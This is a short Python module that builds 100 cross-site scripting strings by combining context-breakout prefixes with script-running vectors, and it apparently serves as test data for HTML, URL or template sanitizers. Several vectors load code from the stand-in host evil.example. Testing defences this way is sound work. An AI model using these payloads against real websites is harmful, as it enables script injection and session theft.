"""A hundred texts that run a script wherever they are taken for HTML, a URL or a template."""

import itertools

_OUT_OF = ("", '"', "'", '">', "'>", "</td>", "-->", "</title></textarea>", "</style>", "</script>")
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    "<base href=//evil.example/><script src=x.js></script>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "{{ 7*7 }}{% raw %}<b onmouseover=alert(1)>x</b>",
    "%{x}<extra><img src=//evil.example/x onerror=alert(1)></extra>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
PAYLOADS = tuple(out + vector for out, vector in itertools.product(_OUT_OF, _VECTORS))
assert len(set(PAYLOADS)) == 100
